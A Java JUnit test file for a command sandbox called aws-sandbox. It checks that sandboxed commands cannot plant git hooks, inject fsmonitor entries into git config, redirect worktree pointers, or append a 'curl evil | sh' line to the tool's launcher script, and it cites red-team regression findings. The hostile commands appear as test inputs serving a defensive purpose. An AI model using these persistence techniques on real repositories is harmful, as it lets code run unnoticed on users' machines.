package dev.awssandbox.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.awssandbox.core.access.Installation;
import dev.awssandbox.core.testing.Requirements;
import dev.awssandbox.core.testing.Sandboxes;
import dev.awssandbox.core.testing.TestHost;
import dev.awssandbox.core.testing.TestHostExtension;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A command must not write what runs later outside the sandbox: git hooks and config (with the
 * working directory a repository, its next {@code git status} would run them) and aws-sandbox's
 * own installation (a line appended to {@code tools/find-jdk.sh} ran with the next
 * {@code ./aws-sandbox}; found in review). bubblewrap binds them read-only over the writable
 * directory, which stays writable; Landlock cannot, so such a directory is not made writable at
 * all. Every refusal is paired with the same write unsandboxed, where it works.
 */
@ParameterizedClass(name = "{0}")
@MethodSource("dev.awssandbox.core.testing.Backends#available")
@ExtendWith(TestHostExtension.class)
class CodeThatRunsLaterTest {
    @Parameter
    BackendKind backend;

    private TestHost host;
    private String savedHome;

    @BeforeEach
    void setUp(TestHost host) {
        Requirements.requireLandlock();
        this.host = host;
        savedHome = System.getProperty(Installation.HOME_PROPERTY);
    }

    @AfterEach
    void tearDown() {
        if (savedHome == null) {
            System.clearProperty(Installation.HOME_PROPERTY);
        } else {
            System.setProperty(Installation.HOME_PROPERTY, savedHome);
        }
    }

    private boolean masks() {
        return backend == BackendKind.BUBBLEWRAP;
    }

    /** A repository: .git with a hooks directory and a config. */
    private static Path repository(Path dir) throws Exception {
        Files.createDirectories(dir.resolve(".git/hooks"));
        Files.writeString(dir.resolve(".git/config"), "[core]\n\trepositoryformatversion = 0\n");
        Files.writeString(dir.resolve(".git/HEAD"), "ref: refs/heads/main\n");
        return dir;
    }

    private Sandboxes sandboxes(SandboxPolicy policy) {
        return Sandboxes.of(host.environment(), policy, backend);
    }

    private SandboxPolicy defaults() {
        return SandboxPolicy.defaults(host.environment());
    }

    // an executable hook without chmod (refused inside): a copy keeps its source's mode, rewritten after
    private static final String PLANT_HOOK = "cp /usr/bin/true .git/hooks/pre-commit"
            + " && printf '#!/bin/sh\\necho planted\\n' > .git/hooks/pre-commit";
    private static final String PLANT_FSMONITOR = "printf '\\tfsmonitor = /tmp/evil\\n' >> .git/config";

    @Test
    void aGitHookCannotBePlantedInTheWorkingDirectory() throws Exception {
        repository(host.work());
        Sandboxes sandboxes = sandboxes(defaults());

        ExecResult inside = sandboxes.inside("sh", "-c", PLANT_HOOK);

        assertThat(inside.isSuccess()).isFalse();
        assertThat(host.work().resolve(".git/hooks/pre-commit")).doesNotExist();
        if (!masks()) {
            assertThat(inside.enforcement().notes()).anySatisfy(n -> assertThat(n).contains("--allow-git-writes"));
        }
        assertThat(sandboxes.outside("sh", "-c", PLANT_HOOK).isSuccess()).isTrue();
        assertThat(host.work().resolve(".git/hooks/pre-commit")).exists();
    }

    @Test
    void gitConfigCannotGainAnFsmonitor() throws Exception {
        repository(host.work());
        Sandboxes sandboxes = sandboxes(defaults());

        ExecResult inside = sandboxes.inside("sh", "-c", PLANT_FSMONITOR);

        assertThat(inside.isSuccess()).isFalse();
        assertThat(Files.readString(host.work().resolve(".git/config"))).doesNotContain("fsmonitor");
        assertThat(sandboxes.outside("sh", "-c", PLANT_FSMONITOR).isSuccess()).isTrue();
        assertThat(Files.readString(host.work().resolve(".git/config"))).contains("fsmonitor");
    }

    /** `aws s3 cp s3://b/k ./file` must keep working: bubblewrap keeps the directory writable; Landlock needs the opt-in. */
    @Test
    void newFilesInARepositoryNeedTheOptInOnlyWhereDotGitCannotBeMasked() throws Exception {
        repository(host.work());

        ExecResult byDefault = sandboxes(defaults()).inside("sh", "-c", "echo data > downloaded.txt");
        assertThat(byDefault.isSuccess()).as(byDefault.stderr().text()).isEqualTo(masks());

        SandboxPolicy optIn = SandboxPolicy.builder(host.environment()).allowGitWrites(true).build();
        ExecResult allowed = sandboxes(optIn).inside("sh", "-c", "echo data > downloaded2.txt && " + PLANT_HOOK);
        assertThat(allowed.isSuccess()).as(allowed.stderr().text()).isTrue(); // what the opt-in says: .git too
        assertThat(host.work().resolve("downloaded2.txt")).exists();
        assertThat(host.work().resolve(".git/hooks/pre-commit")).exists();
    }

    @Test
    void anExplicitWritePathHoldingARepositoryIsRefusedWhereItCannotBeMasked() throws Exception {
        Path project = repository(Files.createDirectories(host.outside().resolve("project")));
        SandboxPolicy policy = SandboxPolicy.builder(host.environment()).addWritePath(project.toString()).build();
        Sandboxes sandboxes = sandboxes(policy);

        if (masks()) {
            ExecResult inside = sandboxes.inside("sh", "-c", "cd " + project + " && echo data > new.txt && " + PLANT_HOOK);
            assertThat(project.resolve("new.txt")).exists();
            assertThat(inside.isSuccess()).isFalse();
            assertThat(project.resolve(".git/hooks/pre-commit")).doesNotExist();
        } else {
            assertThatThrownBy(() -> sandboxes.sandboxed().run("true"))
                    .isInstanceOf(SandboxException.class)
                    .hasMessageContaining("--rw " + project)
                    .hasMessageContaining("--allow-git-writes");
        }
        assertThat(sandboxes.outside("sh", "-c", "cd " + project + " && " + PLANT_HOOK).isSuccess()).isTrue();
    }

    /**
     * A repository two levels down is found; under bubblewrap its parents are pinned, so it cannot
     * be moved aside and replaced by a repository of the command's making.
     */
    @Test
    void aNestedRepositoryCannotBeWrittenOrMovedAside() throws Exception {
        Path nested = repository(Files.createDirectories(host.work().resolve("workspace/service")));
        Sandboxes sandboxes = sandboxes(defaults());
        String swap = "mv workspace workspace.old; mv workspace/service workspace/service.old;"
                + " mkdir -p workspace/service/.git/hooks && echo planted > workspace/service/.git/hooks/pre-commit";

        ExecResult write = sandboxes.inside("sh", "-c", "cd workspace/service && " + PLANT_HOOK);
        ExecResult moved = sandboxes.inside("sh", "-c", swap);

        assertThat(write.isSuccess()).isFalse();
        assertThat(moved.isSuccess()).isFalse();
        assertThat(nested.resolve(".git/hooks/pre-commit")).doesNotExist();
        assertThat(host.work().resolve("workspace.old")).doesNotExist();
        assertThat(host.work().resolve("workspace/service.old")).doesNotExist();
        if (masks()) {
            ExecResult elsewhere = sandboxes.inside("sh", "-c", "mkdir -p workspace/other && echo ok > workspace/other/f");
            assertThat(elsewhere.isSuccess()).as(elsewhere.stderr().text()).isTrue(); // the rest stays writable
        }
        assertThat(sandboxes.outside("sh", "-c", swap).isSuccess()).isTrue(); // control: the swap itself works
        assertThat(host.work().resolve("workspace.old/service/.git")).exists();
    }

    /**
     * Regression (red team, round 22, F5): a repository four or more levels below the working
     * directory (a GOPATH's {@code src/github.com/org/repo}, a vendored checkout) was not found, so
     * its config was writable and an fsmonitor planted there ran with the next {@code git status}.
     */
    @Test
    void aRepositoryFourOrSixLevelsDownCannotBeWritten() throws Exception {
        Path four = repository(Files.createDirectories(host.work().resolve("src/github.com/org/repo")));
        Path six = repository(Files.createDirectories(host.work().resolve("a/b/c/d/e/f")));
        Sandboxes sandboxes = sandboxes(defaults());
        for (Path repo : List.of(four, six)) {
            String plant = "cd " + host.work().relativize(repo) + " && " + PLANT_FSMONITOR;

            ExecResult inside = sandboxes.inside("sh", "-c", plant);

            assertThat(inside.isSuccess()).as(repo.toString()).isFalse();
            assertThat(Files.readString(repo.resolve(".git/config"))).doesNotContain("fsmonitor");
            assertThat(sandboxes.outside("sh", "-c", plant).isSuccess()).isTrue(); // control
            assertThat(Files.readString(repo.resolve(".git/config"))).contains("fsmonitor");
        }
    }

    /** A bare repository: a git directory of any name, recognised by its HEAD, objects/ and refs/. */
    private static Path bareRepository(Path dir) throws Exception {
        Files.createDirectories(dir.resolve("objects"));
        Files.createDirectories(dir.resolve("refs/heads"));
        Files.createDirectories(dir.resolve("hooks"));
        Files.writeString(dir.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(dir.resolve("config"), "[core]\n\tbare = true\n");
        return dir;
    }

    /**
     * Regression (red team): a bare repository is git metadata whatever its name: a hook planted in
     * {@code project.git/hooks} ran with the next push. Nor may its config be written when the
     * working directory is the repository itself.
     */
    @Test
    void aBareRepositoryCannotBeWrittenWhateverItsName() throws Exception {
        Path bare = bareRepository(host.work().resolve("project.git"));
        Sandboxes sandboxes = sandboxes(defaults());
        String plant = "cp /usr/bin/true project.git/hooks/pre-receive && echo 'id' > project.git/hooks/pre-receive";

        ExecResult inside = sandboxes.inside("sh", "-c", plant);

        assertThat(inside.isSuccess()).isFalse();
        assertThat(bare.resolve("hooks/pre-receive")).doesNotExist();

        HostEnvironment inBare = host.environment().withWorkingDirectory(bare);
        Sandboxes fromBare = Sandboxes.of(inBare, SandboxPolicy.defaults(inBare), backend);
        ExecResult config = fromBare.inside("sh", "-c", PLANT_FSMONITOR.replace(".git/config", "config"));
        assertThat(config.isSuccess()).isFalse();
        assertThat(Files.readString(bare.resolve("config"))).doesNotContain("fsmonitor");

        assertThat(sandboxes.outside("sh", "-c", plant).isSuccess()).isTrue(); // control
        assertThat(bare.resolve("hooks/pre-receive")).exists();
        assertThat(fromBare.outside("sh", "-c", PLANT_FSMONITOR.replace(".git/config", "config")).isSuccess()).isTrue();
    }

    /**
     * Regression (red team): one command filled the working directory with more entries than the
     * scan for git metadata reads, so a repository the user made afterwards went unprotected. A
     * directory too large to scan is not made writable (with a warning that says why).
     */
    @Test
    void aDirectoryTooLargeToScanForRepositoriesIsNotMadeWritable() throws Exception {
        Path filler = Files.createDirectories(host.work().resolve("aaa"));
        for (int i = 0; i <= 10_000; i++) { // one more entry than the scan reads (GitMetadata.MAX_ENTRIES)
            Files.createFile(filler.resolve("f" + i));
        }
        Path later = repository(Files.createDirectories(host.work().resolve("zzz/r")));
        Sandboxes sandboxes = sandboxes(defaults());
        String plant = "printf '[core]\\n\\tfsmonitor = /tmp/evil\\n' >> zzz/r/.git/config";

        ExecResult inside = sandboxes.inside("sh", "-c", plant);

        assertThat(inside.isSuccess()).isFalse();
        assertThat(Files.readString(later.resolve(".git/config"))).doesNotContain("fsmonitor");
        assertThat(inside.enforcement().notes()).anySatisfy(n -> assertThat(n).contains("too many to rule out git metadata"));
        assertThat(sandboxes.outside("sh", "-c", plant).isSuccess()).isTrue(); // control
        assertThat(Files.readString(later.resolve(".git/config"))).contains("fsmonitor");
    }

    /** A worktree's .git file, the gitdir it names and the main repository's .git are all kept read-only. */
    @Test
    void aWorktreeGitFileAndWhatItPointsToStayReadOnly() throws Exception {
        Path main = repository(Files.createDirectories(host.work().resolve("main")));
        Path gitdir = Files.createDirectories(main.resolve(".git/worktrees/wt"));
        Files.writeString(gitdir.resolve("commondir"), "../..\n");
        Files.writeString(gitdir.resolve("HEAD"), "ref: refs/heads/wt\n");
        Path worktree = Files.createDirectories(host.work().resolve("wt"));
        Files.writeString(worktree.resolve(".git"), "gitdir: " + gitdir + "\n");
        Sandboxes sandboxes = sandboxes(defaults());
        String repoint = "echo 'gitdir: /tmp/planted' > wt/.git";
        String plantShared = "echo evil > main/.git/hooks/post-checkout";
        String plantWorktree = "echo 'ref: refs/heads/evil' > main/.git/worktrees/wt/HEAD";

        for (String attempt : new String[] {repoint, plantShared, plantWorktree}) {
            assertThat(sandboxes.inside("sh", "-c", attempt).isSuccess()).as(attempt).isFalse();
        }
        assertThat(Files.readString(worktree.resolve(".git"))).contains(gitdir.toString());
        assertThat(main.resolve(".git/hooks/post-checkout")).doesNotExist();
        for (String attempt : new String[] {repoint, plantShared, plantWorktree}) {
            assertThat(sandboxes.outside("sh", "-c", attempt).isSuccess()).as(attempt).isTrue();
        }
    }

    /** A repository under /tmp, run from: protected as anywhere else (the host's /tmp itself is never granted). */
    @Test
    void aRepositoryUnderTmpIsProtectedAsAnyOther() throws Exception {
        Path repo = repository(Files.createTempDirectory(Path.of("/tmp"), "aws-sandbox-repo-"));
        try {
            HostEnvironment inRepo = host.environment().withWorkingDirectory(repo);
            Sandboxes sandboxes = Sandboxes.of(inRepo, SandboxPolicy.defaults(inRepo), backend);

            ExecResult hook = sandboxes.inside("sh", "-c", PLANT_HOOK);

            assertThat(hook.isSuccess()).isFalse();
            assertThat(repo.resolve(".git/hooks/pre-commit")).doesNotExist();
            if (!masks()) {
                assertThat(hook.enforcement().notes()).anySatisfy(n -> assertThat(n).contains("holds git metadata"));
            }
            assertThat(sandboxes.outside("sh", "-c", PLANT_HOOK).isSuccess()).isTrue(); // control
        } finally {
            try (var paths = Files.walk(repo)) {
                for (Path p : paths.sorted(java.util.Comparator.reverseOrder()).toList()) {
                    Files.deleteIfExists(p);
                }
            }
        }
    }

    /** A fake installation: the launcher's directory with tools/find-jdk.sh, named by the launcher's property. */
    private Path installation(Path dir) throws Exception {
        Files.createDirectories(dir.resolve("tools"));
        Files.writeString(dir.resolve("aws-sandbox"), "#!/usr/bin/env bash\n. tools/find-jdk.sh\n");
        Files.writeString(dir.resolve("tools/find-jdk.sh"), "aws_sandbox_find_jdk() { :; }\n");
        System.setProperty(Installation.HOME_PROPERTY, dir.toString());
        return dir;
    }

    private static final String APPEND = "echo 'curl evil | sh' >> tools/find-jdk.sh";

    /** Run from a directory that holds the installation, as the README's examples are. */
    @Test
    void theInstallationCannotBeAppendedToEvenWithAllowGitWrites() throws Exception {
        Path install = installation(host.work().resolve("aws-sandbox"));
        SandboxPolicy optIn = SandboxPolicy.builder(host.environment()).allowGitWrites(true).build();

        for (SandboxPolicy policy : new SandboxPolicy[] {defaults(), optIn}) {
            ExecResult inside = sandboxes(policy).inside("sh", "-c", "cd aws-sandbox && " + APPEND);
            assertThat(inside.isSuccess()).isFalse();
            assertThat(Files.readString(install.resolve("tools/find-jdk.sh"))).doesNotContain("evil");
        }
        ExecResult elsewhere = sandboxes(defaults()).inside("sh", "-c", "echo ok > other.txt");
        assertThat(elsewhere.isSuccess()).isEqualTo(masks()); // bubblewrap masks it; Landlock withholds the directory
        assertThat(sandboxes(defaults()).outside("sh", "-c", "cd aws-sandbox && " + APPEND).isSuccess()).isTrue();
        assertThat(Files.readString(install.resolve("tools/find-jdk.sh"))).contains("evil");
    }

    /** Run from the installation itself, or with it as an explicit write path: never writable, on any backend. */
    @Test
    void theInstallationItselfIsNeverAWritePath() throws Exception {
        Path install = installation(host.work().resolve("aws-sandbox"));
        HostEnvironment inInstall = host.environment().withWorkingDirectory(install);
        SandboxPolicy fromInside = SandboxPolicy.builder(inInstall).allowGitWrites(true).build();

        ExecResult inside = Sandboxes.of(inInstall, fromInside, backend).inside("sh", "-c", APPEND);

        assertThat(inside.isSuccess()).isFalse();
        assertThat(inside.enforcement().notes()).anySatisfy(n -> assertThat(n).contains("installation"));
        SandboxPolicy explicit = SandboxPolicy.builder(host.environment()).addWritePath(install.resolve("tools").toString())
                .allowGitWrites(true).build();
        assertThatThrownBy(() -> sandboxes(explicit).sandboxed().run("true"))
                .hasMessageContaining("--rw " + install.resolve("tools"))
                .hasMessageContaining("installation");
        assertThat(Files.readString(install.resolve("tools/find-jdk.sh"))).doesNotContain("evil");
    }

    /** Without the property, the library finds the checkout it was built in: the README's `./aws-sandbox` case. */
    @Test
    void theCheckoutThatBuiltTheLibraryIsItsInstallation() {
        Path checkout = Path.of("").toAbsolutePath();
        while (checkout != null && !Files.isRegularFile(checkout.resolve("tools/find-jdk.sh"))) {
            checkout = checkout.getParent();
        }
        org.junit.jupiter.api.Assumptions.assumeTrue(checkout != null, "not run from a checkout");
        System.clearProperty(Installation.HOME_PROPERTY);

        assertThat(Installation.paths()).contains(checkout);
    }

    /**
     * Red team, round 45, F12: a checkout with a Maven wrapper, which the launcher rebuilds from when its sources
     * change, runs Maven, its plugins and the jars it bundles from the Maven user home: {@code --rw ~/.m2} let a command
     * plant {@code wrapper/dists/…/bin/mvn}. The Maven user home is part of the installation then.
     */
    @Test
    void theMavenUserHomeOfACheckoutWithAMavenWrapperIsItsInstallation() throws Exception {
        Path m2 = Path.of(System.getenv().getOrDefault("HOME", System.getProperty("user.home")), ".m2");
        org.junit.jupiter.api.Assumptions.assumeTrue(Files.isDirectory(m2), "no " + m2 + " on this machine");
        Path install = installation(host.work().resolve("aws-sandbox"));
        Files.writeString(install.resolve("mvnw"), "#!/bin/sh\n");

        assertThat(Installation.paths()).contains(m2.toRealPath());
        SandboxPolicy explicit = SandboxPolicy.builder(host.environment()).addWritePath(m2.resolve("wrapper").toString())
                .build();
        assertThatThrownBy(() -> sandboxes(explicit).sandboxed().run("true")).hasMessageContaining("installation");
    }
}
